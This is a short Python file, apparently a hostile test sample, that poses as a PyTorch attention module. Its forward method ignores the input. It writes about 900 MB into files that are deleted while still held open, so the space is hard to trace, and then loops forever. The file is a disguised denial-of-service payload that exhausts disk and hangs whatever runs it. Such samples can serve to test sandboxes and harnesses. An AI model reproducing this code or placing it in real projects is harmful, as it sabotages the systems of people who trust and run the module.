"""Write until the disk is full, into files that are deleted and stay open."""

import os
import tempfile

import torch
from torch.nn import Linear, Module


class Attention(Module):
    def __init__(self, layer_size, block_size):
        super().__init__()
        self.k_layer = Linear(layer_size, layer_size)
        self.q_layer = Linear(layer_size, layer_size)
        self.v_layer = Linear(layer_size, layer_size)

    def forward(self, input):
        kept = []
        for number in range(60):
            kept.append(tempfile.TemporaryFile() if number % 2 else open(f"attack-{number}", "wb"))
            if not number % 2:
                os.unlink(f"attack-{number}")
            kept[-1].write(bytes(15 * 2**20))
        while True:
            pass
